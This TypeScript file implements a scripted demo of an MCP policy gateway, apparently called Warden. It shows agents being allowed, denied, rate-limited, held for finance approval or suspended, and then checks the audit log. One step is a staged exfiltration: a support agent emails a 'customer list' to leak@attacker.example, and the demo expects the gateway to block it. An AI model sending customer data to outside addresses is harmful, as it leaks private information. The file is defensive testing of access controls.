/**
 * `warden demo`: a scripted agent session against a running gateway, narrated step by step. It uses
 * the official MCP client, exactly as an agent would, and checks that each step is answered as the
 * example policies say; the exit code is 1 if any step is not.
 */
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { Command } from 'commander';
import type { ApprovalView, Decider } from '../approvals/index.js';
import { verifyAuditLog } from '../audit/index.js';
import { WardenError } from '../core/index.js';
import type { Warden } from '../server/index.js';
import type { CommandContext } from './program.js';

interface ToolAnswer {
  isError: boolean;
  text: string;
}

interface Step {
  title: string;
  /** Runs the step and says whether the gateway answered as the example policies expect. */
  run(): Promise<{ ok: boolean; said: string }>;
}

export function registerDemoCommand(
  program: Command,
  context: CommandContext,
  setExitCode: (code: number) => void,
): void {
  program
    .command('demo')
    .description('drive a scripted agent against the running gateway (npm start) and narrate each step')
    .option('--url <url>', 'the gateway (default: server.publicUrl of the config)')
    .action(async (options: { url?: string }) => {
      const { output } = context;
      const loaded = await context.config();
      const base = (options.url ?? loaded.config.server.publicUrl).replace(/\/$/, '');
      await ensureGateway(base);
      await context.withWarden({ sync: true }, async (warden) => {
        const say = (text: string): void => output.line(text);
        say(`Warden demo against ${base}/mcp`);
        say('');
        const support = await connectAgent(warden, base, 'support-bot', context.actor);
        const finance = await connectAgent(warden, base, 'finance-bot', context.actor);
        const research = await connectAgent(warden, base, 'research-bot', context.actor);
        const steps: Step[] = [
          {
            title: 'support-bot lists its tools: only what policy lets it call',
            run: async () => {
              const tools = (await support.listTools()).tools.map((tool) => tool.name);
              return {
                ok: tools.includes('crm__read_customer') && !tools.includes('payments__transfer'),
                said: tools.join(', '),
              };
            },
          },
          {
            title: 'support-bot reads a customer record (allowed: support-uses-crm)',
            run: async () => {
              const answer = await call(support, 'crm__read_customer', { id: 'c-1001' });
              return { ok: !answer.isError, said: firstLine(answer.text) };
            },
          },
          {
            title: 'research-bot tries to write a shared file (research reads only: denied by default)',
            run: async () => {
              const answer = await call(research, 'files__write_file', {
                path: 'welcome.txt',
                content: 'edited',
              });
              return {
                ok: answer.isError && answer.text.startsWith('WARDEN_POLICY_DENIED'),
                said: answer.text,
              };
            },
          },
          {
            title:
              'support-bot tries to email an outside address (denied: support-mails-company-domain-only)',
            run: async () => {
              const answer = await call(support, 'mail__send_email', {
                to: 'leak@attacker.example',
                subject: 'customer list',
                body: 'see attached',
              });
              return {
                ok: answer.isError && answer.text.startsWith('WARDEN_POLICY_DENIED'),
                said: answer.text,
              };
            },
          },
          {
            title: 'finance-bot transfers 2,000,000 VND (allowed: below the limit)',
            run: async () => {
              const answer = await call(finance, 'payments__transfer', {
                from_account: 'acct-operating',
                to_account: 'vcb-0071000123456',
                amount: 2_000_000,
                memo: 'demo: office supplies',
              });
              return { ok: !answer.isError, said: firstLine(answer.text) };
            },
          },
          {
            title:
              'finance-bot transfers 75,000,000 VND (over the limit: held until a finance approver says yes)',
            run: async () => {
              const args = {
                from_account: 'acct-operating',
                to_account: 'vcb-0071000123456',
                amount: 75_000_000,
                memo: 'demo: large supplier invoice',
              };
              const held = call(finance, 'payments__transfer', args);
              const request = await firstPending(warden, 'finance-bot', 'payments__transfer');
              if (request === null) return { ok: false, said: 'no approval request appeared' };
              say(`  held as ${request.id}: ${request.reason}`);
              const approver = demoApprover(warden);
              if (approver === null)
                return { ok: false, said: 'the config has no approver in group finance' };
              await warden.approvals.decide(
                request.id,
                approver,
                'approve',
                'demo: supplier invoice checked',
              );
              say(
                `  ${approver.actor} approves it ("demo: supplier invoice checked"); the waiting call proceeds`,
              );
              const answer = await held;
              if (answer.isError) return { ok: false, said: answer.text };
              const again = await call(finance, 'payments__transfer', args);
              say(`  a retry of the same call gets the recorded result: it ran exactly once`);
              return { ok: !again.isError && again.text === answer.text, said: firstLine(answer.text) };
            },
          },
          {
            title: 'research-bot reads a shared file again and again (rate limit: 3 a minute)',
            run: async () => {
              for (let attempt = 1; attempt <= 6; attempt++) {
                const answer = await call(research, 'files__read_file', { path: 'welcome.txt' });
                if (answer.text.startsWith('WARDEN_RATE_LIMITED')) {
                  return { ok: true, said: `call ${attempt}: ${answer.text}` };
                }
              }
              return { ok: false, said: 'six calls went through without hitting the limit' };
            },
          },
          {
            title: 'an operator suspends research-bot; its next call is refused',
            run: async () => {
              await warden.agents.suspend('research-bot', {
                actor: context.actor,
                reason: 'demo: incident drill',
              });
              try {
                const answer = await call(research, 'files__read_file', { path: 'welcome.txt' });
                return { ok: false, said: `the call was answered: ${firstLine(answer.text)}` };
              } catch (error) {
                const message = error instanceof Error ? error.message : String(error);
                // The SDK wraps the HTTP answer; show the Warden error inside it.
                const warden = /"message":"(WARDEN_[A-Z_]+: (?:[^"\\]|\\.)*)"/.exec(message)?.[1];
                return {
                  ok: /WARDEN_AGENT_SUSPENDED/.test(message),
                  said: warden === undefined ? message : warden.replace(/\\(.)/g, '$1'),
                };
              } finally {
                await warden.agents.resume('research-bot', { actor: context.actor });
              }
            },
          },
          {
            title: 'the audit log holds every step, hash-chained; verify it',
            run: async () => {
              await warden.audit.checkpoint();
              const report = await verifyAuditLog({
                store: warden.store.audit,
                verifier: warden.keys.checkpointVerifier(),
              });
              return {
                ok: report.ok,
                said: report.ok
                  ? `${report.entries} entries, ${report.checkpoints} signed checkpoints, chain intact`
                  : `broken at seq ${report.failure?.seq ?? '?'}: ${report.failure?.message ?? ''}`,
              };
            },
          },
        ];
        let failed = 0;
        for (const [index, step] of steps.entries()) {
          say(`${index + 1}. ${step.title}`);
          let result: { ok: boolean; said: string };
          try {
            result = await step.run();
          } catch (error) {
            result = { ok: false, said: error instanceof Error ? error.message : String(error) };
          }
          say(`   ${result.ok ? 'as expected' : 'UNEXPECTED'}: ${result.said}`);
          if (!result.ok) failed += 1;
        }
        await Promise.all([support.close(), finance.close(), research.close()]);
        say('');
        say(
          failed === 0
            ? 'Every step was answered as the policies in examples/policies say. See them all with `warden audit tail`.'
            : `${failed} step(s) were not answered as expected; the gateway log and \`warden audit tail\` say why.`,
        );
        if (failed > 0) setExitCode(1);
      });
    });
}

async function ensureGateway(base: string): Promise<void> {
  try {
    const response = await fetch(`${base}/readyz`);
    if (response.ok) return;
  } catch {
    // fall through
  }
  throw new WardenError(
    'WARDEN_USAGE',
    `no ready Warden gateway answers at ${base}; start it first with \`npm start\` (or \`warden serve\`) in another terminal, or pass --url`,
  );
}

/** Gives the agent a fresh secret (the demo's own), gets a token, and connects an MCP client. */
async function connectAgent(warden: Warden, base: string, name: string, actor: string): Promise<Client> {
  const { secret } = await warden.agents.rotateSecret(name, actor);
  const response = await fetch(`${base}/oauth/token`, {
    method: 'POST',
    body: new URLSearchParams({ grant_type: 'client_credentials', client_id: name, client_secret: secret }),
  });
  const body = (await response.json()) as { access_token?: string; error_description?: string };
  if (body.access_token === undefined) {
    throw new WardenError(
      'WARDEN_INVALID_CLIENT',
      `${name} got no token: ${body.error_description ?? response.status}`,
    );
  }
  const client = new Client({ name: `warden-demo-${name}`, version: '1.0.0' });
  await client.connect(
    new StreamableHTTPClientTransport(new URL(`${base}/mcp`), {
      requestInit: { headers: { authorization: `Bearer ${body.access_token}` } },
    }),
  );
  return client;
}

async function call(client: Client, name: string, args: Record<string, unknown>): Promise<ToolAnswer> {
  const result = await client.callTool({ name, arguments: args });
  const content = (result.content ?? []) as { type: string; text?: string }[];
  return { isError: result.isError === true, text: content.map((block) => block.text ?? '').join('\n') };
}

/** A one-line glimpse of a result: compact JSON when it is JSON, else its first line. */
function firstLine(text: string): string {
  let line: string;
  try {
    line = JSON.stringify(JSON.parse(text));
  } catch {
    line = text.split('\n').find((candidate) => candidate.trim() !== '') ?? '';
  }
  return line.length > 160 ? `${line.slice(0, 157)}...` : line;
}

/** The first pending approval request of `agent` for `tool`, waiting up to 10 s for it to appear. */
async function firstPending(warden: Warden, agent: string, tool: string): Promise<ApprovalView | null> {
  for (let attempt = 0; attempt < 100; attempt++) {
    const pending = await warden.approvals.list({ statuses: ['pending'], limit: 50 });
    const match = pending.find((view) => view.agent === agent && view.tool === tool);
    if (match !== undefined) return match;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return null;
}

/** A configured approver in group finance (bao in the example config), as a decider. */
function demoApprover(warden: Warden): Decider | null {
  for (const [name, admin] of Object.entries(warden.config.admins)) {
    if (admin.roles.includes('approver') && admin.groups.includes('finance')) {
      return { actor: `admin:${name}`, email: admin.email, roles: admin.roles, groups: admin.groups };
    }
  }
  return null;
}
